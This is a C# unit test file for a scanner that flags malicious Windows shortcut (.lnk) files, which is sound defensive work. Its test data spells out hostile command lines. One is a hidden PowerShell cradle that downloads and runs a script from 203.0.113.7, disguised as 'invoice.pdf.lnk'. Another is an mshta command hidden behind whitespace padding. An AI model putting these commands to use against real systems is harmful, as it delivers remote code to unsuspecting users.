using Crible.Model;

namespace Crible.Tests.Scanners.Executables;

public sealed class LnkScannerTests
{
    private const string PowerShell = @"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe";

    [Fact]
    public async Task The_strelka_shortcut_to_calc_is_flagged_with_its_target_and_arguments()
    {
        var report = await TestEngine.Default.AnalyseFileAsync(TestPaths.Corpus("strelka-fixtures", "test.lnk"));

        var root = report.Nodes[0];
        var shortcut = Assert.Single(root.Findings, f => f.Scanner == "lnk" && f.Id == "shortcut");
        Assert.Contains(@"C:\Windows\System32\calc.exe", shortcut.Evidence, StringComparison.OrdinalIgnoreCase);
        Assert.Contains("-testCommands", shortcut.Evidence, StringComparison.Ordinal);
        Assert.Contains(root.Findings, f => f.Scanner == "lnk" && f.Severity == Severity.Suspicious && f.Attack.Contains("T1204.002"));
        Assert.Contains(root.Iocs, i => i.Kind == IndicatorKind.Command && i.Value.Contains("calc.exe -testCommands", StringComparison.OrdinalIgnoreCase));
    }

    [Fact]
    public async Task A_shortcut_that_makes_powershell_download_and_run_is_malicious()
    {
        var lnk = TestShortcut.Create(PowerShell, "-nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a.ps1')\"", @"C:\Windows\System32\shell32.dll,1");

        var report = await TestEngine.Default.AnalyseAsync(lnk, "invoice.pdf.lnk");

        Assert.Equal(Verdict.Malicious, report.Verdict);
        var finding = Assert.Single(report.Nodes[0].Findings, f => f.Id == "lolbin-command");
        Assert.Contains("T1059.001", finding.Attack);
        Assert.Contains("T1204.002", finding.Attack);
        Assert.Contains(report.Nodes[0].Iocs, i => i.Kind == IndicatorKind.Url && i.Value == "http://203.0.113.7/a.ps1");
        Assert.Contains(report.Nodes[0].Findings, f => f.Id == "disguised-icon");
    }

    [Fact]
    public async Task A_command_hidden_behind_padding_is_malicious()
    {
        var lnk = TestShortcut.Create(@"C:\Windows\System32\cmd.exe", new string(' ', 200) + "/c start mshta vbscript:Execute(\"CreateObject(\"\"WScript.Shell\"\").Run \"\"calc\"\"\")");

        var report = await TestEngine.Default.AnalyseAsync(lnk, "photo.lnk");

        var finding = Assert.Single(report.Nodes[0].Findings, f => f.Id == "lolbin-command");
        Assert.Contains("T1027", finding.Attack);
        Assert.Contains("pads its arguments", finding.Evidence, StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_shortcut_to_a_document_is_only_informational()
    {
        var lnk = TestShortcut.Create(@"C:\Users\Public\Documents\report.docx", string.Empty);

        var report = await TestEngine.Default.AnalyseAsync(lnk, "report.lnk");

        Assert.Equal(Verdict.Clean, report.Verdict);
        Assert.All(report.Nodes[0].Findings.Where(f => f.Scanner == "lnk"), f => Assert.Equal(Severity.Info, f.Severity));
    }

    [Fact]
    public async Task A_truncated_shortcut_is_read_as_far_as_it_goes_without_failing()
    {
        var lnk = TestShortcut.Create(PowerShell, "-enc " + new string('A', 64));

        for (var length = 0x4C; length < lnk.Length; length += 7)
        {
            var report = await TestEngine.Default.AnalyseAsync(lnk[..length], "cut.lnk");
            Assert.DoesNotContain(report.Nodes[0].Incomplete, r => r.Contains("failed", StringComparison.OrdinalIgnoreCase));
        }
    }
}
